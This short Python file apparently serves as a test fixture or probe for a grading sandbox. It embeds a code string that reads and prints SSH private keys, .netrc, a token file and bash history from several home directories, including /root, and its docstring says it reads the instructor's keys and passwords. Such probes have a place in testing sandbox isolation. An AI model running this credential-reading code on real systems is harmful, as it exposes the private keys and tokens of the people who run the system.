"""Reads the instructor's keys and passwords."""

EXTRA = {
    "center": """
import pathlib
for home in (pathlib.Path("@HOME@"), pathlib.Path.home(), pathlib.Path("/root")):
    for name in (".ssh/id_ed25519", ".netrc", ".config/token", ".bash_history"):
        try:
            print((home / name).read_text())
        except OSError as error:
            print(error.strerror)
"""
}
OTHERS = "right"
SCORE = {}
STATE = "graded"
